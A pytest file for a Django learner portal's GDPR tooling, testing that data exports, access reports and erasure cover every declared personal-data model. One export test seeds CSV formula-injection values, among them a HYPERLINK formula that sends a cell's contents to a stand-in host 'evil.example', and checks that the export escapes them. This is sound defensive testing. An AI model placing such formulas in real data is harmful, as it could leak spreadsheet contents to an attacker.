"""Fulfilment covers every declared model: a learner with data everywhere is exported whole and erased whole.

The fixture below gives one learner rows in every model of the personal-data
registry (the first test fails when a newly declared model is not covered here),
so the portable copy, the access report and erasure are each checked against
all of the registry at once — the anchors' most reported failure is a table that
was never exported or never deleted.
"""

import csv
import datetime
import io
import json
import re
import zipfile
from decimal import Decimal
from html import unescape

import pytest
import time_machine
from axes.models import AccessAttempt
from django.contrib.admin.models import ADDITION, LogEntry
from django.contrib.contenttypes.models import ContentType
from django.core import mail
from django.core.files.storage import default_storage
from django.test import Client
from django.utils import timezone

from accounts.models import AccountRecovery, TOTPDevice, UserSession
from accounts.services import personal_access_token_create, personal_access_token_revoke, signup_request
from compliance.erasure import UNREADABLE_COLUMNS, erasure_execute
from compliance.models import AuditEvent, StaffGroup
from compliance.registry import Delete, registry
from compliance.services import audit_record
from learnerportal.tests.factories import (
    PASSWORD,
    BackupCodeFactory,
    CourseFactory,
    EnrollmentFactory,
    LearningEventFactory,
    PasskeyFactory,
    PaymentFactory,
    PolicyAcknowledgementFactory,
    ProcessingRunFactory,
    QuizResultFactory,
    TOTPDeviceFactory,
    UserFactory,
    authorisation_pdf,
    photo_file,
    staff_member,
)
from learnerportal.tests.support import agent_request_post, emailed_code, public_code_post, public_request_post
from privacy.models import PolicyVersion, ProcessingRun
from privacy.services import consent_record, profile_visibility_update, restriction_start, sensitive_use_limit
from rights_requests import portability, services
from rights_requests.models import RequestFile, RightsRequest, Status
from rights_requests.portability import portable_export_file
from rights_requests.reports import access_report_file

pytestmark = pytest.mark.django_db

#: Models about staff members' work, not about a learner: covered by the staff test below.
STAFF_ONLY = {"privacy.processingrun", "admin.logentry"}
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
#: Portable columns the fixture's learner leaves empty: each is filled by an event the fixture does not stage.
EMPTY_UNTIL_IT_HAPPENS = {
    ("consents", "note"): "staff recorded a consent for the learner",
    ("data_rights_requests", "extended_at"): "staff extended a request's deadline",
    ("data_rights_requests", "extension_reason"): "staff extended a request's deadline",
    ("data_rights_requests", "decision_reason"): "staff declined a request",
    ("prepared_copies", "unavailable_since"): "a download found the stored file damaged",
    ("processing_restrictions", "lifted_at"): "staff lifted the restriction",
    ("profile", "us_state"): "the learner lives in the United States",
    ("profile", "regime_override"): "staff recorded the learner's regime",
    ("profile", "regime_override_reason"): "staff recorded the learner's regime",
    ("requests_without_sign_in", "closed_at"): "staff answered one made without an account",
    ("requests_without_sign_in", "authorisation_deleted_at"): "a signed authorisation was deleted after its request",
    ("requests_without_sign_in", "authority_verified_at"): "staff verified an agent's or parent's authority",
    ("requests_without_sign_in", "objected_at"): "the learner objected to what an agent or parent filed",
    ("requests_without_sign_in_history", "note"): "staff verified an agent's or parent's authority, with a note",
}


def learner_with_data_everywhere(username, full_name, email, on_commit):
    """Return a learner with at least one row in every declared model but the staff-only ones."""
    # A sign-up with the address, made before staff made the account: its link is still waiting.
    signup_request(username=f"{username}-web", email=email, password="a-long-unusual-passphrase")
    user = UserFactory(
        username=username,
        email=email,
        profile__full_name=full_name,
        profile__phone="+44 7700 900" + str(abs(hash(username)) % 900 + 100),
        profile__bio='Bio with "quotes", commas, new\nlines, emoji 🎓 and 中文',
        profile__date_of_birth=datetime.date(1991, 3, 4),
        profile__photo=photo_file(),
        profile__country="GB",
        profile__education_level="master",
        profile__occupation="Nurse",
        profile__timezone="Europe/London",
        profile__language="en-gb",
    )
    enrollment = EnrollmentFactory(user=user, grade_percent=Decimal("88.50"), completed_at=timezone.now())
    QuizResultFactory(enrollment=enrollment)
    LearningEventFactory(user=user, course=enrollment.course)
    PaymentFactory(user=user, course=enrollment.course)
    consent_record(actor=user, user=user, purpose="research", granted=True, source="settings")
    profile_visibility_update(actor=user, subject=user, audiences={"bio": "learners"})  # also an audit row
    restriction_start(actor=user, user=user, reason="Checking my quiz results")
    sensitive_use_limit(actor=user, user=user, reference="DSR-2026-000001")
    policy, _ = PolicyVersion.objects.get_or_create(
        kind="privacy", version="2026-11", defaults={"effective_date": datetime.date(2026, 11, 1), "summary": "s"}
    )
    PolicyAcknowledgementFactory(user=user, policy=policy)
    browser = Client(HTTP_USER_AGENT=FIREFOX)
    assert browser.post("/accounts/login/", {"username": username, "password": PASSWORD}).status_code == 302
    browser.get("/settings/account/")
    assert UserSession.objects.filter(user=user).exists()
    failed = Client(HTTP_USER_AGENT=FIREFOX)
    failed.post("/accounts/login/", {"username": username, "password": "wrong password"})  # a failed attempt
    TOTPDeviceFactory(user=user, last_used_at=timezone.now())
    PasskeyFactory(user=user, name=f"{full_name}'s laptop", last_used_at=timezone.now())
    BackupCodeFactory(device__user=user, used_at=timezone.now())
    now = timezone.now()
    AccountRecovery.objects.create(  # an earlier recovery, completed, after which 2FA was set up again
        user=user,
        status=AccountRecovery.Status.COMPLETED,
        requested_at=now - datetime.timedelta(days=4),
        started_at=now - datetime.timedelta(days=3, hours=1),
        completes_at=now - datetime.timedelta(hours=1),
        ended_at=now - datetime.timedelta(hours=1),
        setup_asked_at=now - datetime.timedelta(minutes=30),
    )
    token, raw_token = personal_access_token_create(
        actor=user, user=user, name="Backup script", scope="read", lifetime_days=30
    )
    assert Client(HTTP_AUTHORIZATION=f"Bearer {raw_token}").get("/api/v1/me/profile/").status_code == 200
    personal_access_token_revoke(actor=user, token=token)
    with on_commit(execute=True):  # a portable copy, prepared and stored
        services.request_submit(actor=user, subject=user, request_type="portability")
    # A correction asked for without signing in, from /privacy/request/, its emailed code typed.
    stranger = Client()
    public_request_post(stranger, email.upper(), "rectification", f"I am {full_name}; my phone changed.")
    assert public_code_post(stranger, emailed_code(mail.outbox[-1])).status_code == 302
    # A copy of their data asked for by a parent, with a signed authorisation, the parent's emailed code typed.
    parent = Client()
    agent_request_post(parent, f"parent-of-{username}@example.net", email, authorisation_pdf(), filed_by="parent")
    assert public_code_post(parent, emailed_code(mail.outbox[-1])).status_code == 302
    return user


@pytest.fixture
def noor(django_capture_on_commit_callbacks):
    return learner_with_data_everywhere(
        "noor", "Noor Al-Hassan", "noor@example.org", django_capture_on_commit_callbacks
    )


@pytest.fixture
def kofi(django_capture_on_commit_callbacks):
    return learner_with_data_everywhere("kofi", "Kofi Boateng", "kofi@example.org", django_capture_on_commit_callbacks)


def rows_about(subject):
    return {declaration.label: declaration.queryset_for(subject).count() for declaration in registry}


def test_the_fixture_has_data_in_every_declared_model(noor):
    empty = {label for label, count in rows_about(noor).items() if not count}

    assert empty == STAFF_ONLY, "a newly declared model needs a row in learner_with_data_everywhere"


def test_the_portable_copy_holds_every_declared_record_and_nothing_undeclared(noor):
    with portable_export_file(noor) as output:
        archive = zipfile.ZipFile(output)
        manifest = json.loads(archive.read("manifest.json"))
        documents = {entry["records"]: json.loads(archive.read(entry["json"])) for entry in manifest["files"]}
        names = set(archive.namelist())

    # A kind with nothing portable (a passkey's attestation: key material only) has no file.
    kinds = [
        declaration
        for declaration in registry
        if declaration.label not in STAFF_ONLY
        and any(personal.exportable and personal.portable for personal in declaration.fields.values())
    ]
    assert {"django_otp_webauthn.webauthnattestation", "django_otp_webauthn.webauthnuserhandle"} <= {
        declaration.label for declaration in registry
    } - {declaration.label for declaration in kinds} - STAFF_ONLY
    assert names == {"manifest.json", "README.txt", "profile_photo.jpg"} | {
        f"{declaration.records_name}.{extension}" for declaration in kinds for extension in ("csv", "json")
    }, "one CSV and one JSON file per kind of record, and the photo"
    for declaration in kinds:
        columns = [
            declaration.column_name(name)
            for name, personal in declaration.fields.items()
            if personal.exportable and personal.portable
        ]
        records = documents[declaration.records_name]
        assert records, f"{declaration.label} has rows but none in {declaration.records_name}.json"
        assert all(list(record) == columns for record in records), (
            f"{declaration.label}: only its declared, exportable, portable fields, in their declared order"
        )


#: Values the database and Python must write alike: formulas, quotes, new lines, a backslash, control
#: characters, other scripts, and times whose fraction has trailing zeros or none.
AWKWARD = 'x=1, "quoted" \\ back\\slash, tab\there, new\nline, \x01 and 中文 🎓'
AWKWARD_TIMES = [
    datetime.datetime(2026, 3, 14, 9, 26, 52, 123400, tzinfo=datetime.UTC),
    datetime.datetime(2026, 3, 14, 9, 26, 52, tzinfo=datetime.UTC),
    datetime.datetime(2026, 3, 14, 9, 26, 52, 5, tzinfo=datetime.UTC),
]


def test_the_kinds_the_database_writes_are_byte_for_byte_what_python_writes(noor, monkeypatch):
    """PostgreSQL writes the large kinds (``portable_sql``); a rule that drifted from Python's would show here."""
    course = CourseFactory(title='=HYPERLINK("http://evil.example/?"&A1) "course" \\ 中文')
    enrollment = EnrollmentFactory(user=noor, course=course, grade_percent=None, completed_at=None)
    QuizResultFactory(enrollment=enrollment, quiz_title="@SUM(1)" + AWKWARD, score=0)
    for when in AWKWARD_TIMES:
        LearningEventFactory(user=noor, course=course, occurred_at=when)
    PaymentFactory(user=noor, course=course, amount=Decimal("0.50"), method_summary="-" + AWKWARD)
    UserSession.objects.filter(user=noor).update(user_agent="\t=cmd", created_at=AWKWARD_TIMES[0])
    consent_record(
        actor=noor, user=noor, purpose="marketing_email", granted=True, source="settings", note=" +" + AWKWARD
    )
    audit_record(
        actor=noor,
        subject=noor,
        action=AuditEvent.Action.PROFILE_UPDATED,
        changes={"bio": {"old": AWKWARD, "new": "＝1+1"}, "count": 3, "flags": [True, None]},
    )
    made_at = datetime.datetime(2026, 3, 14, 9, 30, tzinfo=datetime.UTC)
    written_by = []
    real_lines = portability.portable_lines

    def lines(dataset, subject, **options):
        chunks = real_lines(dataset, subject, **options)
        written_by.append((dataset.declaration.records_name, chunks is not None))
        return chunks

    monkeypatch.setattr(portability, "portable_lines", lines)
    with time_machine.travel(made_at, tick=False):
        by_database = zip_entries(portable_export_file(noor))
        monkeypatch.setattr(portability, "portable_lines", lambda dataset, subject, **options: None)
        by_python = zip_entries(portable_export_file(noor))

    database_kinds = {name for name, by_database in written_by if by_database}
    assert {"account", "enrollments", "quiz_results", "payments", "learning_activity", "sessions"} <= database_kinds
    assert {"consents", "activity_log", "prepared_copies", "authenticator_apps"} <= database_kinds
    assert not {"profile", "failed_sign_ins", "data_rights_requests"} & database_kinds, "encrypted, export_as"
    assert by_database.keys() == by_python.keys()
    for name, content in by_python.items():
        assert by_database[name] == content, name
    assert "'=HYPERLINK(" in by_database["learning_activity.csv"].decode()
    assert '"occurred_at": "2026-03-14T09:26:52.123400+00:00"' in by_database["learning_activity.json"].decode()


def zip_entries(output):
    """Return ``{name: bytes}`` of the ZIP in the binary file ``output``, and close it."""
    with output, zipfile.ZipFile(output) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_no_column_of_the_portable_copy_is_empty_for_every_record(noor):
    """A column nobody can fill is bookkeeping, not the learner's data: the registry keeps it out (GDPR Art. 20)."""
    with portable_export_file(noor) as output:
        archive = zipfile.ZipFile(output)
        manifest = json.loads(archive.read("manifest.json"))
        empty = set()
        for entry in manifest["files"]:
            header, *lines = csv.reader(io.StringIO(archive.read(entry["csv"]).decode("utf-8"), newline=""))
            filled = [any(line[index] for line in lines) for index in range(len(header))]
            empty |= {(entry["records"], name) for name, used in zip(header, filled, strict=True) if not used}

    assert empty == set(EMPTY_UNTIL_IT_HAPPENS)


def test_the_access_report_has_a_table_with_rows_for_every_declared_record(noor):
    with access_report_file(noor) as output:
        html = output.read().decode("utf-8")

    for declaration in registry:
        if declaration.label in STAFF_ONLY or not any(f.exportable for f in declaration.fields.values()):
            continue
        section = html.split(f"<h3>{declaration.description.replace("'", '&#x27;')}</h3>")[1].split("</section>")[0]
        assert "We hold nothing of this kind about you." not in section, declaration.label


def test_erasure_deletes_or_strips_every_declared_record_and_leaves_the_other_learner_alone(noor, kofi):
    kofi_before = rows_about(kofi)
    kofi_profile = (kofi.profile.full_name, kofi.profile.phone, kofi.profile.bio, kofi.profile.photo.name)
    photo = noor.profile.photo.name

    before = rows_about(noor)

    receipt = erasure_execute(subject=noor)

    assert receipt["scan"] == [], f"identifiers left: {receipt['scan']}"
    after = rows_about(noor)
    for declaration in registry:
        if isinstance(declaration.erasure, Delete):
            assert after[declaration.label] == 0, f"{declaration.label} rows survived erasure"
            # The receipt counts what went, even rows that went with another kind (cascades).
            assert receipt["records"][declaration.label] == ["deleted", before[declaration.label]], declaration.label
    assert after["accounts.payment"] == 1, "kept for the tax law, without identity"
    assert not AccessAttempt.objects.filter(username="noor").exists()
    assert not TOTPDevice.objects.filter(user=noor).exists()
    assert rows_about(kofi) == kofi_before
    kofi.profile.refresh_from_db()
    assert (kofi.profile.full_name, kofi.profile.phone, kofi.profile.bio, kofi.profile.photo.name) == kofi_profile
    assert default_storage.exists(kofi_profile[3]) and default_storage.exists(photo), "files go after the commit"


def test_erasure_through_a_request_removes_the_photo_and_every_file_after_the_commit(
    noor, django_capture_on_commit_callbacks
):
    officer = staff_member("priya.officer", StaffGroup.PRIVACY_OFFICER)
    stored = RequestFile.objects.get(request__subject=noor).storage_name
    photo = noor.profile.photo.name
    erasure = services.request_submit(actor=noor, subject=noor, request_type="erasure")

    with django_capture_on_commit_callbacks(execute=True):
        services.request_approve(actor=officer, request=erasure)

    erasure.refresh_from_db()
    assert erasure.status == Status.COMPLETED and erasure.result["erasure_receipt"]["scan"] == []
    assert not default_storage.exists(photo)
    assert not default_storage.exists(stored), "the report prepared earlier is gone too"
    scanned = erasure.result["erasure_receipt"]["scanned"]
    # The learner's own remaining rows in full, everyone's free text through its indexes.
    assert scanned["columns"] == scanned["own_columns"] + scanned["free_text_columns"] > scanned["tables"]
    assert scanned["own_rows"] >= 2 and scanned["free_text_columns"] >= 10
    assert scanned["identifiers"] == ["email", "full name", "phone", "username"]


def test_the_privacy_officer_reads_the_erasure_receipt_in_admin(
    client, noor, verified_login, django_capture_on_commit_callbacks
):
    officer = staff_member("priya.officer", StaffGroup.PRIVACY_OFFICER)
    erasure = services.request_submit(actor=noor, subject=noor, request_type="erasure")
    with django_capture_on_commit_callbacks(execute=True):
        services.request_approve(actor=officer, request=erasure)
    verified_login(client, officer)

    page = client.get(f"/admin/rights_requests/rightsrequest/{erasure.pk}/change/").text

    assert "erasure receipt" in page.lower()
    scanned = RightsRequest.objects.get(pk=erasure.pk).result["erasure_receipt"]["scanned"]
    # The scan as a sentence, not a table's counters (GDPR Art. 5(2)).
    assert (
        f"{scanned['tables']} tables and {scanned['columns']} columns searched for the former email, full name, "
        f"phone and username (every text column of the {scanned['own_rows']} rows still about the learner; "
        f"{scanned['free_text_columns']} free-text columns in everyone's rows, through their search indexes), "
        f"{scanned['encrypted_rows']} encrypted row{'s' if scanned['encrypted_rows'] != 1 else ''}"
        f" in {scanned['encrypted_columns']} encrypted columns decrypted and checked: no former identifier remains."
    ) in unescape(page)
    unreadable = (
        f"{len(UNREADABLE_COLUMNS)} columns of hashes and random keys, where no name can be read, were not searched."
    )
    assert unreadable in unescape(page)
    assert f"the {scanned['other_tables']} tables of Django and its libraries" in unescape(page)
    assert "accounts.user:" not in page and "anonymised 1" not in page
    # In the officer's words, not model labels: what was kept, and why (GDPR Art. 17(3)).
    assert "accounts.payment" not in page.split("erasure receipt")[-1]
    kept = "<strong>Kept for a legal reason (GDPR Art. 17(3)), stripped of what identifies the learner:</strong>"
    assert kept in page
    assert "the learner&#x27;s payments (1 row) — Accounting records" in page
    assert "<strong>Deleted:</strong>" in page
    assert ".;" not in page.split("erasure receipt")[-1], "one full stop, not a full stop and a semicolon"
    assert "Why the request was rejected" not in page, "a request carried out shows no rejection's reason"


def test_the_scan_decrypts_encrypted_columns_the_database_cannot_search(noor):
    """Ciphertext never matches a LIKE: an old phone number left in an encrypted column is still found."""
    from compliance.erasure import erasure_scan, subject_identifiers

    phone = noor.profile.phone
    identifiers = subject_identifiers(noor)
    receipt = erasure_execute(subject=noor)
    assert receipt["scan"] == []
    # Phone, date of birth, a request's details, a TOTP key, the details of a request made without signing in.
    assert receipt["scanned"]["encrypted_columns"] == 5
    # The profile is deleted; the request records are retained (stripped) and their details decrypted.
    assert receipt["scanned"]["encrypted_rows"] == RightsRequest.objects.filter(subject=noor).count() == 3

    # As if a rule had forgotten to strip a retained request's details.
    assert RightsRequest.objects.filter(subject=noor).update(details={"changes": {"phone": phone}}) == 3

    assert erasure_scan(identifiers) == [], "SQL alone cannot see into the ciphertext"
    assert {"table": "rights_requests_rightsrequest", "column": "details", "identifier": "phone"}.items() <= (
        erasure_scan(identifiers, noor)[0].items()
    )


def test_random_keys_hashes_and_longer_words_that_spell_a_short_username_do_not_fail_the_erasure(kofi):
    """Session keys, password hashes, "cafeteria" and other erased accounts spell "cafe": no name is left there."""
    from django.contrib.sessions.backends.db import SessionStore

    learner = UserFactory(username="cafe", email="cafe.learner@example.org")
    kofi.set_password("x")
    kofi.password = kofi.password[:-5] + "$CAFE"  # as if the hash's random letters spelled it
    kofi.save(update_fields=["password"])
    other_session = SessionStore()
    other_session.create()
    SessionStore.get_model_class().objects.filter(session_key=other_session.session_key).update(
        session_key=f"cafe{other_session.session_key[4:]}"
    )
    UserFactory(username="cafeteria", email="erased-3fcafe@invalid.example")
    kofi.profile.bio = "Runs the café-bar; Cafe2Go fan."
    kofi.profile.save()

    receipt = erasure_execute(subject=learner)

    assert receipt["scan"] == [], f"identifiers left: {receipt['scan']}"
    assert receipt["scanned"]["unreadable_columns"] == len(UNREADABLE_COLUMNS)


def test_a_new_name_that_would_spell_the_old_one_is_drawn_again(monkeypatch):
    import uuid

    learner = UserFactory(username="cafe0000000000000000")
    draws = iter([uuid.UUID("cafe0000000000000000000000000000"), uuid.UUID("12345678123456781234567812345678")])
    monkeypatch.setattr(uuid, "uuid4", lambda: next(draws, uuid.UUID(int=7)))

    receipt = erasure_execute(subject=learner)

    learner.refresh_from_db()
    assert learner.username == "erased-12345678123456781234", "the first draw spelled the old username"
    assert receipt["scan"] == []


def test_a_whole_word_is_found_and_a_part_of_a_longer_one_is_not():
    from compliance.erasure import identifier_pattern

    def found(identifier, text):
        return re.search(identifier_pattern(identifier), text, re.IGNORECASE) is not None

    assert found("noor", "Rang Noor.") and found("noor", "/learners/noor/") and found("noor", '{"u": "noor"}')
    assert not found("noor", "Noorani") and not found("noor", "erased-3fnoor1")
    assert found("noor@example.org", "mailto:NOOR@example.org>") and not found("noor@example.org", "anoor@example.org")
    assert found("+44 7700 900123", 'phone: "+44 7700 900123"') and not found("+44 7700 900123", "+44 7700 9001234")
    assert found("Noor Al-Hassan", "by Noor Al-Hassan, 2026")


def test_a_name_left_in_a_readable_column_still_fails_the_erasure(noor):
    """Leaving hashes out must not blind the scan: the username typed into a course's text is found."""
    CourseFactory(description="With thanks to Noor for the lecture notes.")
    receipt = erasure_execute(subject=noor)
    assert {"table": "accounts_course", "column": "description", "identifier": "username", "rows": 1} in (
        receipt["scan"]
    )


def test_every_unreadable_column_the_scan_skips_exists():
    """A renamed column would otherwise slip out of the list and be searched again, or a typo hide one."""
    from django.apps import apps

    columns = {
        f"{model._meta.db_table}.{field.column}" for model in apps.get_models() for field in model._meta.concrete_fields
    }
    assert set(UNREADABLE_COLUMNS) <= columns


def test_a_copy_finished_after_the_erasure_is_not_kept(noor, django_capture_on_commit_callbacks):
    """A portable copy still being made when the erasure commits must not outlive it (GDPR Art. 17)."""
    from rights_requests.exceptions import AccountClosed, LeaseLost
    from rights_requests.files import request_file_store
    from rights_requests.handlers import handler_for

    officer = staff_member("priya.officer", StaffGroup.PRIVACY_OFFICER)
    copy = RightsRequest.objects.get(subject=noor, type="portability")  # the copy its task is still making
    erasure = services.request_submit(actor=noor, subject=noor, request_type="erasure")
    with django_capture_on_commit_callbacks(execute=True):
        services.request_approve(actor=officer, request=erasure)
    stored_before = set(default_storage.listdir("rights-requests")[1])
    files_before = RequestFile.objects.count()

    with pytest.raises(LeaseLost):
        # The task stops at its next progress report: the erasure closed its request.
        handler_for("portability").fulfil(copy)
    with pytest.raises(AccountClosed):
        # A copy that was finished before the erasure reaches the point of storing it.
        request_file_store(request=copy, kind=RequestFile.Kind.PORTABLE_EXPORT, source=io.BytesIO(b"the copy"))

    assert set(default_storage.listdir("rights-requests")[1]) == stored_before
    assert RequestFile.objects.count() == files_before


def test_a_copy_whose_learner_is_erased_while_it_is_made_ends_closed_not_failed(
    noor, monkeypatch, django_capture_on_commit_callbacks, caplog
):
    from rights_requests.handlers import handler_for

    officer = staff_member("priya.officer", StaffGroup.PRIVACY_OFFICER)
    erasure = services.request_submit(actor=noor, subject=noor, request_type="erasure")
    RightsRequest.objects.filter(subject=noor, type="portability").delete()  # the fixture's earlier copy
    portability = handler_for("portability")
    real = portability.fulfil

    def erased_meanwhile(request):
        with django_capture_on_commit_callbacks(execute=True):
            services.request_approve(actor=officer, request=erasure)
        return real(request)

    monkeypatch.setattr(portability, "fulfil", erased_meanwhile)
    with django_capture_on_commit_callbacks(execute=True):  # the task runs at once in tests
        copy = services.request_submit(actor=noor, subject=noor, request_type="portability")

    copy.refresh_from_db()
    assert copy.status == Status.WITHDRAWN, "closed by the erasure, not 'failed' for staff to retry"
    assert not RequestFile.objects.filter(request=copy).exists()
    assert "process_request state=SUCCESSFUL" in caplog.text and "state=FAILED" not in caplog.text


def test_an_erasure_failing_half_way_changes_nothing_and_the_request_fails(
    noor, monkeypatch, django_capture_on_commit_callbacks
):
    from compliance import erasure as erasure_module

    officer = staff_member("priya.officer", StaffGroup.PRIVACY_OFFICER)
    request = services.request_submit(actor=noor, subject=noor, request_type="erasure")
    before = rows_about(noor)
    real_erase = erasure_module._erase_declared_rows

    def erase_then_fail(subject, to_delete):
        real_erase(subject, to_delete)
        raise OSError("disk full")

    monkeypatch.setattr(erasure_module, "_erase_declared_rows", erase_then_fail)
    with django_capture_on_commit_callbacks(execute=True):
        services.request_approve(actor=officer, request=request)

    request.refresh_from_db()
    noor.refresh_from_db()
    assert request.status == Status.FAILED
    assert noor.is_active and noor.username == "noor" and noor.profile.full_name == "Noor Al-Hassan"
    after = rows_about(noor)
    del before["rights_requests.requestevent"], after["rights_requests.requestevent"]  # approved, started, failed
    # The same three steps are in the learner's audit log, which nothing else touched.
    assert after.pop("compliance.auditevent") == before.pop("compliance.auditevent") + 3
    assert after == before
    assert default_storage.exists(noor.profile.photo.name)


def test_a_completed_erasure_never_runs_again(noor, django_capture_on_commit_callbacks):
    officer = staff_member("priya.officer", StaffGroup.PRIVACY_OFFICER)
    request = services.request_submit(actor=noor, subject=noor, request_type="erasure")
    with django_capture_on_commit_callbacks(execute=True):
        services.request_approve(actor=officer, request=request)
    request.refresh_from_db()
    assert request.status == Status.COMPLETED
    receipt = request.result["erasure_receipt"]

    for step in (services.request_retry, services.request_approve):
        with pytest.raises(services.TransitionNotAllowed):
            step(actor=officer, request=request)
    request.refresh_from_db()
    assert request.result["erasure_receipt"] == receipt


def test_a_staff_members_erasure_keeps_the_requests_they_decided(noor, django_capture_on_commit_callbacks):
    officer = staff_member("priya.officer", StaffGroup.PRIVACY_OFFICER)
    officer.email = "priya@example.org"
    officer.save()
    restriction = services.request_submit(
        actor=noor, subject=noor, request_type="restriction", details={"reason": "My grades are wrong"}
    )
    services.request_assign(actor=officer, request=restriction, assignee=officer)
    ProcessingRunFactory(kind="research_export", actor=officer)
    LogEntry.objects.create(
        user=officer,
        content_type=ContentType.objects.get_for_model(RightsRequest),
        object_id=str(restriction.pk),
        object_repr=restriction.reference,
        action_flag=ADDITION,
    )
    events = restriction.events.count()

    receipt = erasure_execute(subject=officer)

    assert receipt["scan"] == []
    restriction.refresh_from_db()
    assert restriction.subject == noor and restriction.events.count() == events, "the learner's request is intact"
    assert ProcessingRun.objects.filter(kind="research_export").exists(), "the record of processing is retained"
    assert LogEntry.objects.filter(object_id=str(restriction.pk)).exists()
